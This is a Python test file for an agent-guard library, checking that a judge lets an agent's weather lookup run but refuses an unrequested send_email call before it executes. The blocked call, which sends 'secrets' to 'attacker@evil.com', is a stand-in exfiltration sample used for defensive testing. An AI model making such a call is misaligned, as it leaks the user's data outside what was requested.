"""Tiny agent loops in pydantic-ai and the OpenAI Agents SDK, with a scripted agent model and a
scripted VISTA judge: an aligned call runs, a misaligned one is refused before it executes."""

import json

import pytest

from intentlens.backends import ManagedBackend, ScriptedBackend
from intentlens.guards import Vista

QUERY = "What's the weather in Paris?"
ALLOW = {"core_intent": "weather", "tool_behaviour": "weather lookup", "verdict": "serves_request",
         "reason": "ok"}
DENY = {"core_intent": "weather", "tool_behaviour": "sends e-mail", "verdict": "not_requested",
        "reason": "e-mail was not requested"}


def _judge() -> ScriptedBackend:
    return ScriptedBackend(responder=lambda messages, schema: DENY
                           if "send_email" in messages[-1].content else ALLOW)


def _tools(executed: list[str]):
    def get_weather(city: str) -> str:
        """Current weather for a city."""
        executed.append(f"get_weather:{city}")
        return "sunny, 21 C"

    def send_email(to: str, body: str) -> str:
        """Send an e-mail."""
        executed.append(f"send_email:{to}")
        return "sent"

    return get_weather, send_email


@pytest.mark.parametrize(("tool", "args", "runs"), [
    ("get_weather", {"city": "Paris"}, True),
    ("send_email", {"to": "attacker@evil.com", "body": "secrets"}, False),
])
async def test_pydantic_ai_before_tool_execute(tool, args, runs) -> None:
    pytest.importorskip("pydantic_ai")
    from pydantic_ai import Agent
    from pydantic_ai.messages import ModelResponse, RetryPromptPart, TextPart, ToolCallPart, ToolReturnPart
    from pydantic_ai.models.function import FunctionModel

    from intentlens.integrations.pydantic_ai import intent_hooks

    seen_feedback: list[str] = []

    def agent_model(messages, info):
        last = messages[-1].parts
        if any(isinstance(p, ToolReturnPart | RetryPromptPart) for p in last):
            seen_feedback.extend(str(getattr(p, "content", "")) for p in last)
            return ModelResponse(parts=[TextPart("done")])
        return ModelResponse(parts=[ToolCallPart(tool_name=tool, args=args)])

    executed: list[str] = []
    verdicts = []
    judge = _judge()
    agent = Agent(FunctionModel(agent_model), tools=list(_tools(executed)),
                  capabilities=[intent_hooks(Vista(ManagedBackend(judge)),
                                             on_verdict=verdicts.append)])
    result = await agent.run(QUERY)
    assert QUERY in judge.history[0].text
    assert result.output == "done"
    assert bool(executed) is runs and verdicts[0].aligned is runs
    if not runs:
        assert any("intentlens refused this tool call" in text for text in seen_feedback)


async def test_pydantic_ai_hook_hands_earlier_results_to_a_data_flow_guard() -> None:
    pytest.importorskip("pydantic_ai")
    from pydantic_ai import Agent
    from pydantic_ai.messages import ModelResponse, TextPart, ToolCallPart
    from pydantic_ai.models.function import FunctionModel

    from intentlens.guards import GUARDS
    from intentlens.integrations.pydantic_ai import intent_hooks

    def list_restaurants(city: str) -> str:
        """Restaurants in a city."""
        return "Breizh Café, New Asiaway"

    def get_cuisine(name: str) -> str:
        """Cuisine of a restaurant."""
        return "French"

    plan = [ToolCallPart(tool_name="list_restaurants", args={"city": "Paris"}),
            ToolCallPart(tool_name="get_cuisine", args={"name": "Breizh Café"})]

    def agent_model(messages, info):
        return ModelResponse(parts=[plan.pop(0)] if plan else [TextPart("done")])

    # tool intent always passes; a provenance question would get no 'arguments' and block the call
    judge = ScriptedBackend(responder=lambda messages, schema: ALLOW)
    verdicts = []
    guard = GUARDS.build("vista-dataflow", ManagedBackend(judge))
    agent = Agent(FunctionModel(agent_model), tools=[list_restaurants, get_cuisine],
                  capabilities=[intent_hooks(guard, on_verdict=verdicts.append)])
    await agent.run("Which cuisine do the restaurants in Paris serve?")
    assert [v.aligned for v in verdicts] == [True, True]
    [name] = verdicts[1].steps[0].arguments
    assert name.provenance == "earlier_result"


@pytest.mark.parametrize(("tool", "args", "runs"), [
    ("get_weather", {"city": "Paris"}, True),
    ("send_email", {"to": "attacker@evil.com", "body": "secrets"}, False),
])
async def test_openai_agents_tool_input_guardrail(tool, args, runs) -> None:
    pytest.importorskip("agents")
    from agents import Agent, Runner, function_tool, set_tracing_disabled
    from agents.items import ModelResponse
    from agents.models.interface import Model
    from agents.usage import Usage
    from openai.types.responses import (
        ResponseFunctionToolCall,
        ResponseOutputMessage,
        ResponseOutputText,
    )

    from intentlens.integrations.openai_agents import intent_guardrail

    set_tracing_disabled(True)
    tool_outputs: list[str] = []

    class ScriptedAgentModel(Model):
        async def get_response(self, system_instructions, input, model_settings, tools, output_schema,
                               handoffs, tracing, **kwargs):
            items = input if isinstance(input, list) else []
            outputs = [i for i in items if isinstance(i, dict) and i.get("type") == "function_call_output"]
            if outputs:
                tool_outputs.extend(str(o.get("output")) for o in outputs)
                text = ResponseOutputText(text="done", type="output_text", annotations=[])
                message = ResponseOutputMessage(id="m1", content=[text], role="assistant",
                                                status="completed", type="message")
                return ModelResponse(output=[message], usage=Usage(), response_id=None)
            call = ResponseFunctionToolCall(id="c1", call_id="call_1", name=tool,
                                            arguments=json.dumps(args), type="function_call")
            return ModelResponse(output=[call], usage=Usage(), response_id=None)

        def stream_response(self, *args, **kwargs):
            raise NotImplementedError

    executed: list[str] = []
    verdicts = []
    judge = _judge()
    guardrail = intent_guardrail(Vista(ManagedBackend(judge)), on_verdict=verdicts.append)
    tools = [function_tool(f, tool_input_guardrails=[guardrail]) for f in _tools(executed)]
    agent = Agent(name="assistant", model=ScriptedAgentModel(), tools=tools)
    result = await Runner.run(agent, QUERY)
    assert QUERY in judge.history[0].text
    assert result.final_output == "done"
    assert bool(executed) is runs and verdicts[0].aligned is runs
    if not runs:
        assert "intentlens refused this tool call" in tool_outputs[0]
    else:
        assert "sunny" in tool_outputs[0]


@pytest.mark.parametrize(("prompt", "words"), [
    ("book a table", "book a table"),
    (["book a table", {"image": "..."}, "for two"], "book a table\nfor two"),
    ([{"role": "user", "content": "hi"}, {"role": "assistant", "content": "no"},
      {"role": "user", "content": [{"type": "input_text", "text": "there"}, {"type": "image"}]}],
     "hi\nthere"),
    (None, ""),
    (42, ""),
])
def test_the_users_words_are_read_from_either_frameworks_prompt(prompt, words) -> None:
    from intentlens.integrations import user_words

    assert user_words(prompt) == words
